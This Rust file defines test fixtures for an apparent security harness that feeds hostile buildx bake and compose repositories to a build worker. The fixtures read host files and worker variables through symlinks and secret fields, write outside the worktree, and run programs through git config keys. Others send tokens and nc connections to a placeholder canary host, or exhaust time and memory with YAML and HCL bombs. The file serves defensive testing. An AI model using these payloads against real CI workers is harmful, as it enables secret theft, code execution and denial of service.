//! Hostile definitions and repositories.
//!
//! The trap of each run replaces each `@WORD@`. `@OUTSIDE@` is a directory outside the worktree, `@CANARY@` a port of the
//! machine, `@VARIABLE@` the name of a variable of the worker, `@FRONTEND@` the frontend of the account `pinned`.

use std::process::{Command, Stdio};

use serde_json::{Value, json};

use super::trap::Harm;
use super::versions::{Version, Versions};

pub struct Fixture {
    pub name: &'static str,
    /// The attack's target.
    pub aim: &'static str,
    /// The harm to a careless worker, or the reason why buildx or BuildKit prevents it.
    pub harm: Result<Harm, &'static str>,
    /// The versions of buildx for which this is so.
    pub versions: Versions,
    /// The definition in the repository.
    pub file: &'static str,
    pub tree: Vec<Entry>,
    pub account: &'static str,
    /// Whether it comes from a fork, which does not have its account's rights.
    pub is_forks: bool,
    /// The ref that the job gives.
    pub reference: &'static str,
    /// What another account built before.
    pub neighbour: Option<Value>,
    /// Whether it needs outputs. Other fixtures write none, to save time.
    pub has_outputs: bool,
    /// Whether `--print` already does the harm.
    pub is_printed_only: bool,
    /// Whether it attacks the worker's machine during the build, which then needs two walls.
    pub is_dangerous: bool,
}

pub struct Entry {
    pub path: String,
    pub kind: Kind,
    pub content: Vec<u8>,
}

#[derive(Clone, Copy, PartialEq, Eq)]
pub enum Kind {
    File,
    Program,
    Link,
}

const DOCKERFILE: &str = "COPY . /srv\n";
/// A step that prints what it finds in the directory of another account.
const SHOWING: &str = "FROM @BASE@\nENV NONCE=@NONCE@\nCOPY secret /srv/secret\nRUN cat /srv/secret\n";
const SHOWING_SECRET: &str = "RUN --mount=type=secret,id=x cat /run/secrets/x\n";
const RUN_CANARY: &str = "touch @OUTSIDE@/ran";

impl Fixture {
    /// A repository with a `docker-bake.json` of one target. Its default context is `app`.
    fn json(name: &'static str, aim: &'static str, harm: Harm, target: Value) -> Self {
        let mut fields = json!({"context": "./app"});
        fields.as_object_mut().unwrap().extend(target.as_object().unwrap().clone());
        let definition = json!({"target": {"default": fields}}).to_string();
        Self::new(name, aim, harm, "docker-bake.json", &definition).dockerfile(DOCKERFILE)
    }

    /// A bake file with this text, which does its harm in `--print`.
    fn hcl(name: &'static str, aim: &'static str, harm: Harm, text: &str) -> Self {
        Self::new(name, aim, harm, "docker-bake.hcl", text).dockerfile(DOCKERFILE).printed_only()
    }

    /// A compose file of one service, with more fields for the service and the file, and with `LOOT` as an argument
    /// without a value.
    fn compose(name: &'static str, aim: &'static str, harm: Harm, of_service: &str, of_file: &str) -> Self {
        let text = format!("services:\n  web:\n    build: {{context: ./app, args: [LOOT]}}\n{of_service}{of_file}");
        Self::new(name, aim, harm, "compose.yaml", &text).dockerfile("ARG LOOT\nRUN echo \"$LOOT\"\n").printed_only()
    }

    /// A context that is the inside of a git repository with this configuration. It has `worktree`, because buildx
    /// first checks for a worktree. It lacks its commit, so that git requests it from the "remote".
    fn git(name: &'static str, aim: &'static str, url: &str, more: &str) -> Self {
        let config = format!(
            "[core]\n\trepositoryformatversion = 1\n\tworktree = .\n[extensions]\n\tpartialClone = origin\n\
             [remote \"origin\"]\n\turl = {url}\n\tpromisor = true\n\tpartialclonefilter = blob:none\n{more}"
        );
        let program = format!("#!/bin/sh\n{RUN_CANARY}\nexit 1\n");
        Self::json(name, aim, Harm::Wrote, json!({}))
            .dockerfile("COPY Dockerfile /srv/Dockerfile\n")
            .with("app/HEAD", "ref: refs/heads/main\n")
            .with("app/config", &config)
            .with("app/objects/keep", "")
            .with("app/refs/heads/main", "0123456789012345678901234567890123456789\n")
            .entry("app/program", Kind::Program, &program)
    }

    fn new(name: &'static str, aim: &'static str, harm: Harm, file: &'static str, definition: &str) -> Self {
        Self {
            name,
            aim,
            harm: Ok(harm),
            versions: Versions::All,
            file,
            tree: Vec::new(),
            account: "acme",
            is_forks: false,
            reference: "refs/heads/main",
            neighbour: None,
            has_outputs: false,
            is_printed_only: false,
            is_dangerous: false,
        }
        .with(file, definition)
    }

    fn entry(mut self, path: &str, kind: Kind, content: &str) -> Self {
        self.tree.retain(|entry| entry.path != path);
        self.tree.push(Entry { path: path.into(), kind, content: content.into() });
        self
    }

    fn with(self, path: &str, content: &str) -> Self {
        self.entry(path, Kind::File, content)
    }

    fn link(self, path: &str, target: &str) -> Self {
        self.entry(path, Kind::Link, target)
    }

    fn without(mut self, path: &str) -> Self {
        self.tree.retain(|entry| entry.path != path);
        self
    }

    /// `app/Dockerfile` on the base image. No cache knows its steps.
    fn dockerfile(self, steps: &str) -> Self {
        self.with("app/Dockerfile", &format!("FROM @BASE@\nENV NONCE=@NONCE@\n{steps}"))
    }

    fn outputs(self) -> Self {
        Self { has_outputs: true, ..self }
    }

    fn printed_only(self) -> Self {
        Self { is_printed_only: true, ..self }
    }

    fn account(self, account: &'static str) -> Self {
        Self { account, ..self }
    }

    /// From a fork of an account that may request everything.
    fn fork(self) -> Self {
        Self { account: "entitled", is_forks: true, ..self }
    }

    /// A fork whose job names a ref other than a branch, and says that it trusts its author.
    fn of(self, reference: &'static str) -> Self {
        Self { reference, ..self.fork() }
    }

    fn after(self, neighbour: Value) -> Self {
        Self { neighbour: Some(neighbour), ..self }
    }

    /// Says why the harm does not happen.
    fn harmless(self, why: &'static str) -> Self {
        Self { harm: Err(why), ..self }
    }
}

pub fn all() -> Vec<Fixture> {
    let of_worker = [files(), compose_files(), links(), outputs(), environment(), git()].into_iter().flatten();
    let of_worker = of_worker.map(|fixture| Fixture { is_dangerous: !fixture.is_printed_only, ..fixture });
    of_worker.chain([bombs(), remotes(), of_others(), rest(), of_forks()].into_iter().flatten()).collect()
}

/// Not an attack: shows that the trap detects the output of a step.
pub fn ordinary() -> Fixture {
    Fixture::json("ordinary", "nothing", Harm::Leaked, json!({})).dockerfile("RUN echo MARK\"\"-@NONCE@\n")
}

/// Files of the host, through every field that can name one.
fn files() -> Vec<Fixture> {
    use Harm::{Leaked, Read};
    let inline = |context: &str| json!({"context": context, "dockerfile-inline": SHOWING});
    let host = "COPY --from=host secret /srv/secret\nRUN cat /srv/secret\n";
    vec![
        Fixture::json("context_absolute", "a directory of the host as context", Leaked, inline("@OUTSIDE@")),
        Fixture::json("context_above", "the same by `..`", Leaked, inline("@UP@@OUTSIDE@")),
        Fixture::json("context_cwd", "the same by `cwd://`", Leaked, inline("cwd://@UP@@OUTSIDE@")),
        Fixture::json(
            "named_context_absolute",
            "a directory of the host as named context",
            Leaked,
            json!({"contexts": {"host": "@OUTSIDE@"}}),
        )
        .dockerfile(host),
        Fixture::json(
            "named_context_layout",
            "an OCI layout of the host as named context",
            Read,
            json!({"contexts": {"host": "oci-layout://@OUTSIDE@/layout:latest"}}),
        )
        .dockerfile(host),
        Fixture::json(
            "dockerfile_absolute",
            "a file of the host as Dockerfile",
            Leaked,
            json!({"dockerfile": "@OUTSIDE@/Dockerfile"}),
        ),
        Fixture::json(
            "dockerfile_above",
            "the same by `..`",
            Leaked,
            json!({"dockerfile": "@UP@@OUTSIDE@/Dockerfile"}),
        ),
        Fixture::json(
            "secret_src",
            "a file of the host as secret",
            Leaked,
            json!({"secret": ["id=x,src=@OUTSIDE@/secret"]}),
        )
        .dockerfile(SHOWING_SECRET),
        Fixture::json("secret_id_path", "the same by its id alone", Leaked, json!({"secret": ["id=@OUTSIDE@/secret"]}))
            .dockerfile("RUN --mount=type=secret,id=@OUTSIDE@/secret,target=/loot cat /loot\n"),
        Fixture::json(
            "ssh_key",
            "a file of the host as key",
            Read,
            json!({"ssh": [{"id": "default", "paths": ["@OUTSIDE@/key"]}]}),
        )
        .printed_only(),
        Fixture::json(
            "cache_from_local",
            "a directory of the host as cache",
            Read,
            json!({"cache-from": ["type=local,src=@OUTSIDE@/layout"]}),
        ),
    ]
}

/// Files that compose reads during `--print`.
fn compose_files() -> Vec<Fixture> {
    use Harm::{Leaked, Read};
    let of_secret =
        "services:\n  web:\n    build: {context: ./app, secrets: [x]}\nsecrets:\n  x: {file: @OUTSIDE@/secret}\n";
    vec![
        Fixture::compose(
            "compose_env_file",
            "variables from a file of the host",
            Leaked,
            "    env_file: @OUTSIDE@/variables\n",
            "",
        ),
        Fixture::compose(
            "compose_env_file_above",
            "the same by `..`",
            Leaked,
            "    env_file: [{path: @UP@@OUTSIDE@/variables}]\n",
            "",
        ),
        Fixture::compose(
            "compose_include",
            "another compose file of the host",
            Leaked,
            "",
            "include: [@OUTSIDE@/compose.yml]\n",
        ),
        Fixture::compose(
            "compose_include_env_file",
            "variables from a file of the host for an included file",
            Leaked,
            "",
            "include: [{path: ./more.yml, env_file: @OUTSIDE@/variables}]\n",
        )
        .with("more.yml", "services:\n  more:\n    build: {context: ./app, args: {LOOT: \"${LOOT}\"}}\n"),
        Fixture::new(
            "compose_extends",
            "a service of another compose file of the host",
            Leaked,
            "compose.yaml",
            "services:\n  web:\n    extends: {file: @OUTSIDE@/compose.yml, service: stolen}\n    build: {context: ./app}\n",
        )
        .dockerfile(DOCKERFILE)
        .printed_only(),
        Fixture::compose(
            "compose_label_file",
            "labels from a file of the host",
            Read,
            "    label_file: @OUTSIDE@/variables\n",
            "",
        )
        .harmless("a service's labels are not an image's, and buildx does not read the file"),
        Fixture::new("compose_secret_file", "a file of the host as secret", Leaked, "compose.yaml", of_secret)
            .dockerfile(SHOWING_SECRET),
        Fixture::new(
            "compose_additional_context",
            "a directory of the host as named context",
            Leaked,
            "compose.yaml",
            "services:\n  web:\n    build: {context: ./app, additional_contexts: {host: @OUTSIDE@}}\n",
        )
        .dockerfile("COPY --from=host secret /srv/secret\nRUN cat /srv/secret\n"),
        Fixture::compose(
            "compose_remote_include",
            "an include from a remote source",
            Harm::Connected,
            "",
            "include: [\"http://@CANARY@/x.git\"]\n",
        )
        .harmless("this buildx has no loader for them, and looks for a file with that name"),
    ]
}

/// Symbolic links at every level.
fn links() -> Vec<Fixture> {
    use Harm::Leaked;
    let inline = |context: &str| json!({"context": context, "dockerfile-inline": SHOWING});
    let compose = "services:\n  web:\n    build: {context: ./app, args: [LOOT]}\n";
    vec![
        Fixture::json("context_link", "a context that is a link", Leaked, inline("out")).link("out", "@OUTSIDE@"),
        Fixture::json("context_below_link", "a context behind a link", Leaked, inline("out/sub"))
            .link("out", "@OUTSIDE@"),
        Fixture::json(
            "named_context_link",
            "a named context that is a link",
            Leaked,
            json!({"contexts": {"host": "out"}}),
        )
        .link("out", "@OUTSIDE@")
        .dockerfile("COPY --from=host secret /srv/secret\nRUN cat /srv/secret\n"),
        Fixture::json(
            "dockerfile_behind_link",
            "a Dockerfile behind a link",
            Leaked,
            json!({"dockerfile": "../out/Dockerfile"}),
        )
        .link("out", "@OUTSIDE@"),
        Fixture::json("dockerfile_link", "a Dockerfile that is a link", Leaked, json!({"dockerfile": "Linked"}))
            .link("app/Linked", "@OUTSIDE@/Dockerfile")
            .harmless("buildx sends the link, which leads nowhere in the builder"),
        Fixture::json("file_link", "a link in a context", Leaked, json!({}))
            .link("app/secret", "@OUTSIDE@/secret")
            .dockerfile("COPY . /srv\nRUN cat /srv/secret || true\nCOPY secret /srv/again\nRUN cat /srv/again\n")
            .harmless("buildx sends the link, which leads nowhere in the builder"),
        Fixture::json("dockerignore_link", "a .dockerignore that is a link", Leaked, json!({}))
            .link("app/.dockerignore", "@OUTSIDE@/variables")
            .harmless("buildx sends the link, which leads nowhere in the builder"),
        Fixture::json("secret_link", "a secret that is a link", Leaked, json!({"secret": ["id=x,src=out"]}))
            .link("out", "@OUTSIDE@/secret")
            .dockerfile(SHOWING_SECRET),
        Fixture::compose(
            "compose_env_file_link",
            "a file of variables that is a link",
            Leaked,
            "    env_file: ./variables\n",
            "",
        )
        .link("variables", "@OUTSIDE@/variables"),
        Fixture::compose("compose_dot_env_link", "a .env that is a link", Leaked, "", "")
            .link(".env", "@OUTSIDE@/variables"),
        Fixture::compose(
            "compose_include_link",
            "an included file that is a link",
            Leaked,
            "",
            "include: [./more.yml]\n",
        )
        .link("more.yml", "@OUTSIDE@/compose.yml"),
        Fixture::new("definition_link", "a compose file that is a link", Leaked, "compose.yaml", compose)
            .dockerfile("ARG LOOT\n")
            .without("compose.yaml")
            .link("compose.yaml", "@OUTSIDE@/compose.yml")
            .printed_only(),
        Fixture::new("definition_behind_link", "a compose file behind a link", Leaked, "out/compose.yml", compose)
            .without("out/compose.yml")
            .link("out", "@OUTSIDE@")
            .printed_only(),
        Fixture::new(
            "definition_link_shown",
            "a link to a file that is not a definition: buildx prints its lines",
            Leaked,
            "docker-bake.hcl",
            "",
        )
        .without("docker-bake.hcl")
        .link("docker-bake.hcl", "@OUTSIDE@/broken.hcl")
        .printed_only(),
    ]
}

/// Outputs and caches on the worker's disk.
fn outputs() -> Vec<Fixture> {
    use Harm::Wrote;
    let output = |name, aim, output: &str| Fixture::json(name, aim, Wrote, json!({"output": [output]})).outputs();
    // Before 0.30, buildx opened a file already in `--print`.
    let file = |name, aim, text: &str| {
        let built = |printed: Fixture| Fixture { is_printed_only: false, ..printed };
        output(name, aim, text).printed_only().from((0, 30), built)
    };
    let cache = |name, aim, cache: &str| Fixture::json(name, aim, Wrote, json!({"cache-to": [cache]}));
    vec![
        output("output_local", "a directory written on the host", "type=local,dest=@OUTSIDE@/loot"),
        file("output_tar", "an archive opened for writing on the host", "type=tar,dest=@OUTSIDE@/loot.tar"),
        file("output_oci", "an image opened for writing on the host", "type=oci,dest=@OUTSIDE@/loot.oci"),
        file("output_docker", "the same in docker's format", "type=docker,dest=@OUTSIDE@/loot.docker"),
        file("output_over_file", "a file of the host overwritten", "type=tar,dest=@OUTSIDE@/secret"),
        output("output_local_behind_link", "a directory written behind a link", "type=local,dest=out/loot")
            .link("out", "@OUTSIDE@"),
        file("output_tar_behind_link", "an archive opened for writing behind a link", "type=tar,dest=out/loot.tar")
            .link("out", "@OUTSIDE@"),
        cache("cache_to_local", "a cache written on the host", "type=local,dest=@OUTSIDE@/loot"),
        cache("cache_to_local_behind_link", "a cache written behind a link", "type=local,dest=out/loot")
            .link("out", "@OUTSIDE@"),
    ]
}

/// Variables of the worker, through every field that can name one.
fn environment() -> Vec<Fixture> {
    use Harm::Leaked;
    let variable = "variable \"@VARIABLE@\" {}\n";
    let target = |fields: &str| format!("{variable}target \"default\" {{\n  context = \"./app\"\n  {fields}\n}}\n");
    let of_secret =
        "services:\n  web:\n    build: {context: ./app, secrets: [x]}\nsecrets:\n  x: {environment: @VARIABLE@}\n";
    vec![
        Fixture::hcl("variable_in_argument", "a variable of the worker in an argument", Leaked, &target("args = { LOOT = @VARIABLE@ }")),
        Fixture::hcl("variable_in_tag", "the same in a tag", Leaked, &target("tags = [\"evil:${@VARIABLE@}\"]")),
        Fixture::hcl("variable_in_key", "the same in the name of a label", Leaked, &target("labels = { \"${@VARIABLE@}\" = \"x\" }")),
        Fixture::hcl("variable_in_context", "the same in the URL of a context", Leaked, &target("contexts = { x = \"http://@CANARY@/${@VARIABLE@}\" }")),
        Fixture::new(
            "variable_in_json",
            "the same in JSON",
            Leaked,
            "docker-bake.json",
            r#"{"variable": {"@VARIABLE@": {}}, "target": {"default": {"context": "./app", "args": {"LOOT": "${@VARIABLE@}"}}}}"#,
        )
        .dockerfile(DOCKERFILE)
        .printed_only(),
        Fixture::compose("compose_interpolation", "the same by `${…}` in a compose file", Leaked, "    image: \"evil:${@VARIABLE@}\"\n", ""),
        Fixture::new(
            "compose_argument",
            "the same by an argument without a value",
            Leaked,
            "compose.yaml",
            "services:\n  web:\n    build: {context: ./app, args: [@VARIABLE@]}\n",
        )
        .dockerfile(DOCKERFILE)
        .printed_only(),
        Fixture::new(
            "compose_environment",
            "the same by a service's variable without a value",
            Leaked,
            "compose.yaml",
            "services:\n  web:\n    environment: [@VARIABLE@]\n    build: {context: ./app, args: [@VARIABLE@]}\n",
        )
        .dockerfile(DOCKERFILE)
        .printed_only(),
        Fixture::json("secret_env", "a variable of the worker as secret", Leaked, json!({"secret": ["id=x,env=@VARIABLE@"]}))
            .dockerfile(SHOWING_SECRET),
        Fixture::json("secret_id_variable", "the same by its id alone", Leaked, json!({"secret": ["id=@VARIABLE@"]}))
            .dockerfile("RUN --mount=type=secret,id=@VARIABLE@,target=/loot cat /loot\n"),
        Fixture::new("compose_secret_environment", "the same in a compose file", Leaked, "compose.yaml", of_secret)
            .dockerfile(SHOWING_SECRET),
        Fixture::json("ssh_agent", "the worker's ssh agent", Leaked, json!({"ssh": ["default"]}))
            .dockerfile("RUN --mount=type=ssh test -n \"$SSH_AUTH_SOCK\" && echo MARK\"\"-@NONCE@\n"),
        Fixture::hcl("homedir", "the path of the worker's home", Leaked, "target \"default\" {\n  context = \"./app\"\n  args = { LOOT = homedir() }\n}\n"),
        Fixture::json("homedir_in_key", "the same in the name of a label", Leaked, json!({"labels": {"${homedir()}": "x"}}))
            .printed_only(),
    ]
}

/// Definitions that use all available time and memory.
fn bombs() -> Vec<Fixture> {
    let doublings: String =
        (1..30).map(|i| format!("variable \"v{i}\" {{ default = \"${{v{0}}}${{v{0}}}\" }}\n", i - 1)).collect();
    let strings = format!(
        "variable \"v0\" {{ default = \"{}\" }}\n{doublings}target \"default\" {{\n  args = {{ LOOT = v29 }}\n}}\n",
        "x".repeat(32)
    );
    let matrix = "target \"default\" {\n  name = \"t-${a}-${b}\"\n  matrix = { a = [for i in range(300): \"a${i}\"], b = [for i in range(300): \"b${i}\"] }\n}\n";
    let loops = "target \"default\" {\n  args = { LOOT = length([for a in range(1000): [for b in range(1000): [for c in range(1000): c]]]) }\n}\n";
    let aliases: String = ('b'..='i')
        .map(|c| {
            let before = char::from(c as u8 - 1);
            format!("x-{c}: &{c} [{}]\n", vec![format!("*{before}"); 10].join(", "))
        })
        .collect();
    let aliases = format!("x-a: &a [lol, lol]\n{aliases}services:\n  web:\n    build: {{context: ./app}}\n");
    vec![
        Fixture::hcl("bomb_matrix", "time, by a matrix of 90,000 targets", Harm::Exhausted, matrix),
        Fixture::hcl("bomb_strings", "memory, by strings that double", Harm::Exhausted, &strings),
        Fixture::hcl("bomb_loops", "time, by loops in loops", Harm::Exhausted, loops),
        Fixture::new("bomb_aliases", "memory, by YAML aliases of aliases", Harm::Exhausted, "compose.yaml", &aliases)
            .dockerfile(DOCKERFILE)
            .printed_only(),
    ]
}

/// Remote sources that buildx fetches for the repository.
fn remotes() -> Vec<Fixture> {
    use Harm::Connected;
    let context = |name, aim, context: &str| Fixture::json(name, aim, Connected, json!({"context": context}));
    vec![
        context("context_http", "an internal address as context", "http://@CANARY@/context.tar"),
        context("context_git", "the same by git", "git://@CANARY@/x.git"),
        context(
            "context_https_fragment",
            "the same as a folder of a git repository",
            "https://@CANARY@/x.git#main:app",
        ),
        Fixture::json(
            "named_context_http",
            "the same as named context",
            Connected,
            json!({"contexts": {"x": "http://@CANARY@/x.tar"}}),
        )
        .dockerfile("COPY --from=x / /srv\n"),
        Fixture::json(
            "dockerfile_http",
            "the same as Dockerfile",
            Connected,
            json!({"dockerfile": "http://@CANARY@/Dockerfile"}),
        )
        .harmless("with a local context, it is a path like any other"),
        Fixture::json("realm", "a registry that sends buildx to an internal address for a token", Connected, json!({}))
            .with("app/Dockerfile", "FROM @EVIL_REGISTRY@/evil/x:1\n"),
    ]
}

/// Contexts that are git repositories, with each configuration that runs a program.
fn git() -> Vec<Fixture> {
    let none = "buildx runs no git command that uses it";
    let hook = format!("#!/bin/sh\n{RUN_CANARY}\n");
    vec![
        Fixture::git("git_uploadpack", "a program, by the remote of a partial clone", ".", &format!("\tuploadpack = \"{RUN_CANARY}; false\"\n")),
        Fixture::git("git_ssh_command", "a program, by core.sshCommand", "ssh://localhost/x", &format!("[core]\n\tsshCommand = \"{RUN_CANARY}; false\"\n"))
            .from((0, 34), |fixture| fixture.harmless("buildx gives git its own ssh command")),
        Fixture::git("git_ext", "a program, by a URL of ext::", "ext::touch @OUTSIDE@/ran", "[protocol \"ext\"]\n\tallow = always\n"),
        Fixture::git("git_proxy", "a program, by core.gitProxy", "git://localhost/x", "[core]\n\tgitProxy = ./program\n"),
        Fixture::git("git_credential_helper", "a program, by credential.helper", "http://@CANARY@/x.git", &format!("[credential]\n\thelper = \"!{RUN_CANARY}; false\"\n")),
        Fixture::git("git_askpass", "a program, by core.askPass", "http://@CANARY@/x.git", "[core]\n\taskPass = ./program\n"),
        Fixture::git("git_remote_http", "an internal address, by the remote of a partial clone", "http://@CANARY@/x.git", "")
            .harm(Harm::Connected),
        Fixture::git("git_fsmonitor", "a program, by core.fsmonitor", ".", &format!("[core]\n\tfsmonitor = \"{RUN_CANARY}; false\"\n"))
            .harmless(none),
        Fixture::git("git_hooks_path", "a program, by core.hooksPath", ".", "[core]\n\thooksPath = hooks\n")
            .entry("app/hooks/post-checkout", Kind::Program, &hook)
            .entry("app/hooks/reference-transaction", Kind::Program, &hook)
            .entry("app/hooks/post-index-change", Kind::Program, &hook)
            .harmless(none),
        Fixture::git("git_filter", "a program, by a filter or textconv", ".", &format!("[filter \"x\"]\n\tclean = \"{RUN_CANARY}\"\n\tsmudge = \"{RUN_CANARY}\"\n[diff \"x\"]\n\ttextconv = \"{RUN_CANARY}\"\n\tcommand = \"{RUN_CANARY}\"\n"))
            .with("app/.gitattributes", "* filter=x diff=x\n")
            .harmless(none),
        Fixture::git("git_pager", "a program, by core.pager and core.editor", ".", &format!("[core]\n\tpager = \"{RUN_CANARY}\"\n\teditor = \"{RUN_CANARY}\"\n[pager]\n\tshow = \"{RUN_CANARY}\"\n"))
            .harmless("there is no terminal"),
        signed_commit(Fixture::git("git_gpg_program", "a program, by gpg.program and a signed commit", ".", "[log]\n\tshowSignature = true\n[gpg]\n\tprogram = ./program\n"))
        .harmless("buildx switches log.showSignature off"),
    ]
}

/// Gives a context that is a git repository a commit that claims a signature.
fn signed_commit(mut fixture: Fixture) -> Fixture {
    let folder = tempfile::tempdir().unwrap();
    let git = |arguments: &[&str], input: &str| {
        let mut git = Command::new("git");
        git.current_dir(folder.path()).args(arguments).stdin(Stdio::piped()).stdout(Stdio::piped());
        let mut git = git.spawn().unwrap();
        std::io::Write::write_all(&mut git.stdin.take().unwrap(), input.as_bytes()).unwrap();
        String::from_utf8(git.wait_with_output().unwrap().stdout).unwrap().trim().to_owned()
    };
    git(&["init", "--quiet", "--bare", "."], "");
    let tree = git(&["hash-object", "-w", "-t", "tree", "--stdin"], "");
    let who = "Ada Example <ada@example.test> 1700000000 +0000";
    let commit = format!(
        "tree {tree}\nauthor {who}\ncommitter {who}\ngpgsig -----BEGIN PGP SIGNATURE-----\n \n eA==\n -----END PGP SIGNATURE-----\n\nx\n"
    );
    let sha = git(&["hash-object", "-w", "-t", "commit", "--stdin"], &commit);
    for object in [&tree, &sha] {
        let path = format!("objects/{}/{}", &object[..2], &object[2..]);
        let content = std::fs::read(folder.path().join(&path)).unwrap();
        fixture.tree.push(Entry { path: format!("app/{path}"), kind: Kind::File, content });
    }
    fixture.with("app/refs/heads/main", &format!("{sha}\n"))
}

/// Property of other accounts: names of images and caches, cached directories, secrets.
fn of_others() -> Vec<Fixture> {
    use Harm::{Leaked, Pushed};
    let cached = "RUN --mount=type=cache,id=@NONCE@,target=/c cat /c/loot || true\n";
    let neighbour = |args: Value| {
        let steps = "FROM @BASE@\nRUN --mount=type=cache,id=@NONCE@,target=/c echo MARK-@NONCE@ > /c/loot\n";
        json!({"dockerfile-inline": steps, "args": args, "output": ["type=cacheonly"]})
    };
    let namespace = json!({"BUILDKIT_CACHE_MOUNT_NS": "victim-@NONCE@"});
    vec![
        Fixture::json(
            "tag",
            "an image pushed over another account's",
            Pushed,
            json!({"tags": ["@FOREIGN@"], "output": ["type=registry"]}),
        )
        .outputs(),
        Fixture::json(
            "output_name",
            "the same by the name of an output",
            Pushed,
            json!({"output": ["type=image,name=@FOREIGN@,push=true"]}),
        )
        .outputs(),
        Fixture::json(
            "cache_to_registry",
            "a cache over another account's",
            Pushed,
            json!({"cache-to": ["type=registry,ref=@FOREIGN@"]}),
        ),
        Fixture::json("cache_mount", "another account's cached directory", Leaked, json!({}))
            .dockerfile(cached)
            .after(neighbour(json!({}))),
        Fixture::json("cache_mount_namespace", "the same, in its namespace", Leaked, json!({"args": namespace}))
            .dockerfile(cached)
            .after(neighbour(namespace.clone())),
        Fixture::json(
            "git_auth_token",
            "a token for any host that asks",
            Leaked,
            json!({"secret": ["id=GIT_AUTH_TOKEN,env=@VARIABLE@"]}),
        )
        .dockerfile("ADD http://@CANARY@/x.git /srv\n"),
        // Following the link leads to a file of the repository. buildx folds the path as text, which leads outside.
        Fixture::json(
            "credentials_as_dockerfile",
            "the job's own registry credentials as Dockerfile, behind a link and `..`",
            Leaked,
            json!({"dockerfile": "deep/../../../../docker/config.json"}),
        )
        .link("app/deep", "a/b/c/d")
        .with("app/a/b/c/d/x", "")
        .with("app/docker/config.json", "FROM @BASE@\n"),
    ]
}

/// Rights that an account has and its forks do not.
fn of_forks() -> Vec<Fixture> {
    use Harm::{Connected, Leaked};
    let connect = "echo | nc -w 2 127.0.0.1 @CANARY_PORT@ || true\n";
    vec![
        Fixture::json(
            "fork_network_host",
            "the builder's own network, which only its account has",
            Connected,
            json!({"network": "host"}),
        )
        .dockerfile(&format!("RUN {connect}"))
        .fork(),
        Fixture::json(
            "fork_entitlement_network",
            "the same for one step",
            Connected,
            json!({"entitlements": ["network.host"]}),
        )
        .dockerfile(&format!("RUN --network=host {connect}"))
        .fork(),
        Fixture::json(
            "fork_entitlement_insecure",
            "a step with all rights, which only its account has",
            Leaked,
            json!({"entitlements": ["security.insecure"]}),
        )
        .dockerfile("RUN --security=insecure echo MARK\"\"-@NONCE@\n")
        .fork()
        .harmless("BuildKit does not grant it by default"),
        Fixture::json(
            "fork_context_http",
            "a remote context, which only its account has",
            Connected,
            json!({"context": "http://@CANARY@/context.tar"}),
        )
        .fork(),
        Fixture::json(
            "fork_named_context_http",
            "the same as named context",
            Connected,
            json!({"contexts": {"x": "http://@CANARY@/x.tar"}}),
        )
        .dockerfile("COPY --from=x / /srv\n")
        .fork(),
        Fixture::json(
            "fork_by_pull_request",
            "the builder's own network, for a pull request that the job trusts",
            Connected,
            json!({"network": "host"}),
        )
        .dockerfile(&format!("RUN {connect}"))
        .of("pull/7/head"),
        Fixture::json(
            "fork_by_short_name",
            "the same for a name that could be a branch's",
            Connected,
            json!({"network": "host"}),
        )
        .dockerfile(&format!("RUN {connect}"))
        .of("main"),
    ]
}

/// Attacks that request more from the builder than a build.
fn rest() -> Vec<Fixture> {
    use Harm::{Connected, Leaked};
    let connect = "echo | nc -w 2 127.0.0.1 @CANARY_PORT@ || true\n";
    vec![
        Fixture::json("network_host", "the builder's own network", Connected, json!({"network": "host"}))
            .dockerfile(&format!("RUN {connect}")),
        Fixture::json(
            "entitlement_network",
            "the same for one step",
            Connected,
            json!({"entitlements": ["network.host"]}),
        )
        .dockerfile(&format!("RUN --network=host {connect}")),
        Fixture::json(
            "entitlement_insecure",
            "a step with all rights",
            Leaked,
            json!({"entitlements": ["security.insecure"]}),
        )
        .dockerfile("RUN --security=insecure echo MARK\"\"-@NONCE@\n")
        .harmless("BuildKit does not grant it by default"),
        Fixture::json(
            "attest_generator",
            "an image of the repository's choice, run beside the build",
            Connected,
            json!({"attest": ["type=sbom,generator=@CANARY@/evil/generator:1"]}),
        ),
        Fixture::json(
            "attest_argument",
            "the same by an argument",
            Connected,
            json!({"args": {"BUILDKIT_ATTEST_SBOM": "generator=@CANARY@/evil/generator:1"}}),
        ),
        Fixture::json(
            "attest_argument_spelled",
            "the same by an argument in other letters and quotes",
            Connected,
            json!({"args": {"BUILDKIT_ATTEST_sBoM": "\"generator=@CANARY@/evil/generator:1\""}}),
        ),
        Fixture::json(
            "frontend_argument",
            "a frontend of the repository's choice",
            Connected,
            json!({"args": {"BUILDKIT_SYNTAX": "@CANARY@/evil/frontend:1"}}),
        )
        .account("pinned"),
        Fixture::json("frontend_comment", "the same by `# syntax=`", Connected, json!({}))
            .with("app/Dockerfile", "# syntax=@CANARY@/evil/frontend:1\nFROM @BASE@\n")
            .account("pinned"),
        Fixture::json(
            "frontend_in_key",
            "the same by a name that is an expression",
            Connected,
            json!({"args": {"${upper(\"buildkit_syntax\")}": "@CANARY@/evil/frontend:1"}}),
        )
        .account("pinned"),
        Fixture::json(
            "frontend_context",
            "the same by a named context in place of the pinned one",
            Connected,
            json!({
                "args": {"BUILDKIT_SYNTAX": "@FRONTEND@"},
                "contexts": {"@FRONTEND@": "docker-image://@CANARY@/evil/frontend:1"},
            }),
        )
        .account("pinned"),
        Fixture::json("call", "a query instead of a build", Leaked, json!({"call": "outline"}))
            .harmless("the answer describes the Dockerfile and reaches nothing"),
        Fixture::json(
            "policy",
            "the repository's own policy",
            Leaked,
            json!({"policy": [{"filename": "@OUTSIDE@/secret"}]}),
        )
        .harmless("buildx does not know the field")
        .from((0, 31), |fixture| {
            fixture.harmless("buildx reads policies only in the context and in its own directory")
        }),
    ]
}

impl Fixture {
    fn harm(self, harm: Harm) -> Self {
        Self { harm: Ok(harm), ..self }
    }

    /// Describes what is different from this version of buildx on.
    fn from(self, version: Version, newer: impl FnOnce(Self) -> Self) -> Self {
        match world::buildx().version < version {
            true => Self { versions: Versions::Before(version), ..self },
            false => Self { versions: Versions::From(version), ..newer(self) },
        }
    }
}
